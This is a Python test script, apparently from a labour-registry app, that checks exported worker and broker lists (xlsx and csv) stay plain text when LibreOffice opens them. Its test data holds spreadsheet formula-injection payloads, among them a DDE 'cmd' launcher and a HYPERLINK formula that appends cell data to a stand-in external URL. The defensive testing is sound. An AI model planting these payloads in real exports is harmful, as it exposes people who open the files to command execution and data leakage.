"""What LibreOffice makes of exported texts that begin like a formula: .venv/bin/python -m tests.faults.formulas_in_calc

IN-05: names of people and brokers begin with = + - @, with a tab or a line's end before it, and with the
full-width signs. The list of people and the register of brokers are exported as .xlsx and .csv, opened by LibreOffice without a
window, and saved as flat XML, in which each cell says what it is. Expected: every such cell is a text, and the very text that was
exported; the only formulas are those that keep a long number whole (="…"). That a formula would be seen is tried first.

Works on a copy of the demo that is configured and throws it away. Debian has LibreOffice as libreoffice-calc.
"""

import re
import shutil
import subprocess
import sys
from collections import Counter
from pathlib import Path

from bench import server

BEGINNINGS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/"&A1)', "-2+3+cmd|' /C calc'!A0", "=1+1;2",
]
TABLE, OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
WHOLE_NUMBER = re.compile(r'of:="\d+[\dXx]?"$')


def main():
    if not shutil.which("soffice"):
        sys.exit("LibreOffice is not installed.")
    findings = server.Findings()
    with server.copied() as folder:
        _must_see_a_formula(folder)
        for name, content in _exported():
            path = folder / name
            path.write_bytes(content)
            _say(findings, path, _opened(path, folder))
    findings.leave()


def _exported():
    """(file's name, content) of each list, of an office whose every text is hostile."""
    from officers import demo
    from officers.models import Officer
    from support.sheets import exporting

    demo.begin()
    zhao = Officer.objects.get(username="zhao")
    _make_hostile(zhao)
    for file_type in ("xlsx", "csv"):
        yield f"people.{file_type}", _roster(zhao, file_type)
        yield f"brokers.{file_type}", exporting.export(exporting.Wanted("brokers", file_type=file_type), by=zhao)[0]


def _make_hostile(by):
    """Written past the forms, which would clean half of it."""
    from brokers.models import Broker
    from villages.models import CountySettings
    from workers.models import Worker

    CountySettings.objects.update(export_limit=100_000)
    for model in (Worker, Broker):
        for row, text in zip(model.objects.visible_to(by).order_by("pk"), BEGINNINGS, strict=False):
            model.objects.filter(pk=row.pk).update(name=text)


def _roster(by, file_type) -> bytes:
    from laborreg import clock
    from workers.listing import Query
    from workers.sheets import ordering, rosters

    wanted = rosters.Wanted("workers", Query(by, {}, clock.today()), ["name", "id_number"], file_type=file_type)
    return rosters.path_of(ordering.at_once(wanted, by=by)).read_bytes()


def _opened(path, folder) -> list[tuple[str, str, str]]:
    """Kind, formula and text of each cell, as LibreOffice has it."""
    from lxml import etree

    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", "fods", *_as_text(path),
         "--outdir", str(folder / "opened"), str(path)], check=True, capture_output=True, timeout=300,
    )
    saved = folder / "opened" / Path(path.name).with_suffix(".fods")
    cells = etree.parse(saved, etree.XMLParser(huge_tree=True)).iter(f"{TABLE}table-cell")
    found = [(cell.get(f"{OFFICE}value-type", ""), cell.get(f"{TABLE}formula", ""), _text(cell)) for cell in cells]
    saved.unlink()
    return found


def _as_text(path) -> list[str]:
    """A text file as Excel in China opens it: commas, UTF-8, every column as it looks, and formulas taken for such."""
    return ["--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"] if path.suffix == ".csv" else []


def _text(cell) -> str:
    lines = []
    for line in cell.iter(f"{TEXT}p"):
        for tab in line.iter(f"{TEXT}tab"):
            tab.text = "\t"
        for space in line.iter(f"{TEXT}s"):
            space.text = " " * int(space.get(f"{TEXT}c", "1"))
        lines.append("".join(line.itertext()).replace("\r", "\n"))
    return "\n".join(lines)


def _must_see_a_formula(folder):
    """One that nobody guarded; else nothing is tried here."""
    path = folder / "bare.csv"
    path.write_text("姓名,结果\n马一,=1+1\n", encoding="utf-8-sig")
    if ("float", "of:=1+1", "2") not in _opened(path, folder):
        sys.exit("LibreOffice was asked in a way in which no formula runs.")


def _say(findings, path, cells):
    guard = "'" if path.suffix == ".csv" else ""
    wanted = {(guard + text).replace("\r", "\n") for text in BEGINNINGS}
    shown = Counter(text for kind, formula, text in cells if kind == "string" and not formula)
    missing = sorted(text for text in wanted if not shown[text])
    running = [formula for _kind, formula, _text in cells if formula and not WHOLE_NUMBER.match(formula)]
    for text in missing + running:
        print(f"{path.name}: {text!r}", file=sys.stderr)
    figure = f"{path.name}: {len(wanted) - len(missing)} of {len(wanted)} beginnings are the text they were"
    findings.say("IN-05", f"{figure}, {len(running)} formulas in {len(cells)} cells", not missing and not running)


if __name__ == "__main__":
    main()
